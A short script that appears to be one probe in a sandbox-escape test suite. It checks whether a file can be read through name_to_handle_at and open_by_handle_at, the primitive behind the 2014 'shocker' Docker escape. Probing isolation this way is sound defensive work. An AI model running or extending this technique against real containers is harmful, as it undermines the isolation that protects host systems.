# Tries: a file by its handle, name_to_handle_at and open_by_handle_at, which walks no path at all.
# Origin: the shocker escape from Docker (2014).

import struct

handle = native.buffer(136)
handle.raw = struct.pack("I", 128) + bytes(132)
found = [native.call("name_to_handle_at", -100, input["file"], handle, native.buffer(4), 0)]
base = native.call("openat", -100, input["directory"], 0x10000, 0)
file = native.call("open_by_handle_at", base, handle, 0)
into = native.buffer(200)
[*found, base, file, native.call("read", file, into, 200), into.value]
